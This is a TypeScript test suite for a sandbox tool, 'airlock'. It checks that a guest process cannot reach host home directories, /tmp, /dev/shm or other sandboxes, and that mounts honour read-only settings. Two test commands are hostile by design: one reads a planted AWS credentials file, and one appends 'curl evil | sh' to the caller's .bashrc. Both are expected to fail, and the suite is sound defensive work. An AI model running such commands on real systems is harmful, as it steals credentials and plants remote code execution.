import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import {
  chmodSync,
  chownSync,
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { test, type TestContext } from 'node:test';
import { needsRoot, tempHome, testSandbox } from './helpers/sandbox-bench.js';

/** A stand-in for the sudo caller: a uid with a home under /home holding dotfiles and keys. */
function callerHome(
  t: TestContext,
  uid: number,
  canary: string,
): { home: string; credentials: string; bashrc: string } {
  const home = mkdtempSync('/home/airlock-test-');
  t.after(() => rmSync(home, { recursive: true, force: true }));
  mkdirSync(join(home, '.aws'));
  const credentials = join(home, '.aws', 'credentials');
  const bashrc = join(home, '.bashrc');
  writeFileSync(credentials, `aws_secret_access_key = ${canary}\n`, { mode: 0o600 });
  writeFileSync(bashrc, '# the caller’s shell setup\n', { mode: 0o644 });
  writeFileSync(join(home, 'notes.txt'), `world-readable ${canary}\n`, { mode: 0o644 });
  for (const p of [home, join(home, '.aws'), credentials, bashrc, join(home, 'notes.txt')])
    chownSync(p, uid, uid);
  chmodSync(home, 0o755);
  return { home, credentials, bashrc };
}

for (const caller of [
  { label: 'without SUDO_UID (nobody)', sudo: undefined },
  { label: 'with SUDO_UID', sudo: 4321 },
]) {
  test(
    `files: the host's homes, /tmp and /dev/shm are out of the guest's view, ${caller.label}`,
    { skip: needsRoot },
    async (t) => {
      const canary = `CANARY_${randomBytes(12).toString('hex')}`;
      const sudo =
        caller.sudo === undefined ? {} : { SUDO_UID: String(caller.sudo), SUDO_GID: String(caller.sudo) };
      const invokingEnv = { PATH: process.env.PATH, ...sudo };
      const sb = await testSandbox(t, { invokingEnv });
      const uid = sb.user.uid;
      assert.equal(uid, caller.sudo ?? 65534);
      const { home, credentials, bashrc } = callerHome(t, uid, canary);
      const bashrcBefore = readFileSync(bashrc, 'utf8');

      const read = await sb.exec([
        'sh',
        '-c',
        `cat ${credentials} ${join(home, 'notes.txt')}; ls /home /root /mnt /media 2>&1`,
      ]);
      assert.ok(!read.stdout.includes(canary) && !read.stderr.includes(canary), 'a file in a home leaked');
      const append = await sb.exec(['sh', '-c', `echo 'curl evil | sh' >> ${bashrc}`]);
      assert.notEqual(append.status, 0);
      assert.equal(readFileSync(bashrc, 'utf8'), bashrcBefore, "the guest changed the caller's .bashrc");

      const name = `airlock-guest-${randomBytes(6).toString('hex')}`;
      const scratch = await sb.exec([
        'sh',
        '-c',
        `for d in /tmp /var/tmp /dev/shm; do echo x > $d/${name} || exit 1; done; ls /tmp /var/tmp /dev/shm`,
      ]);
      assert.equal(scratch.status, 0, `control: the guest's scratch places are writable: ${scratch.stderr}`);
      for (const dir of ['/tmp', '/var/tmp', '/dev/shm']) {
        assert.equal(existsSync(join(dir, name)), false, `the guest's ${dir} is the host's`);
      }
      // positive control: the same uid on the host can read the notes and append to the .bashrc
      assert.match(readFileSync(join(home, 'notes.txt'), 'utf8'), new RegExp(canary));
      assert.equal(statSync(bashrc).uid, uid);

      // the working directory is writable, and what the guest makes there is the guest user's
      const workdir = tempHome(t);
      chownSync(workdir, uid, uid);
      const made = await sb.exec(['sh', '-c', 'echo made-here > result.txt && mkdir sub && echo ok'], {
        workdir,
      });
      assert.equal(made.stdout, 'ok\n', made.stderr);
      for (const p of ['result.txt', 'sub']) {
        const st = statSync(join(workdir, p));
        assert.equal(st.uid, uid, `${p} belongs to the guest user, not root`);
      }
      assert.equal(readFileSync(join(workdir, 'result.txt'), 'utf8'), 'made-here\n');
    },
  );
}

test(
  'a guest sees no other sandbox: /run/netns and /etc/netns hold nothing',
  { skip: needsRoot },
  async (t) => {
    const a = await testSandbox(t);
    const b = await testSandbox(t);
    const r = await a.exec(['sh', '-c', 'ls -A /run/netns /etc/netns /var/run/netns 2>&1; cat /proc/mounts']);
    assert.ok(!r.stdout.includes(b.id) && !r.stdout.includes(a.id), `sandbox ids visible: ${r.stdout}`);
    // control: on the host both are listed
    assert.ok(existsSync(`/run/netns/${a.netns}`) && existsSync(`/run/netns/${b.netns}`));
  },
);

test(
  'a guest finds its resolver on its own loopback, and airlock writes nothing under /etc for it',
  { skip: needsRoot },
  async (t) => {
    const sb = await testSandbox(t);
    const r = await sb.exec(['cat', '/etc/resolv.conf']);
    if (lstatSync('/etc/resolv.conf').isFile()) {
      assert.equal(r.stdout, 'nameserver 127.0.0.1\noptions timeout:1 attempts:1\n');
    } else {
      assert.notEqual(r.status, 0, 'a symbolic link into the empty /run leads nowhere');
    }
    assert.ok(!existsSync(`/etc/netns/${sb.netns}`), 'no /etc/netns folder of the sandbox');
  },
);

test(
  '--mount shows a chosen folder, read-only or read-write; the state directory never',
  { skip: needsRoot },
  async (t) => {
    const data = tempHome(t);
    writeFileSync(join(data, 'model.bin'), 'weights\n', { mode: 0o644 });
    chmodSync(data, 0o755);
    const out = tempHome(t);
    chmodSync(out, 0o777);
    const sb = await testSandbox(t, {
      mounts: [
        { source: data, target: '/models', readOnly: true },
        { source: out, target: '/out', readOnly: false },
      ],
    });
    const r = await sb.exec([
      'sh',
      '-c',
      'cat /models/model.bin; echo x > /models/new 2>/dev/null || echo ro; echo written > /out/file',
    ]);
    assert.equal(r.stdout, 'weights\nro\n', r.stderr);
    assert.equal(readFileSync(join(out, 'file'), 'utf8'), 'written\n');
  },
);
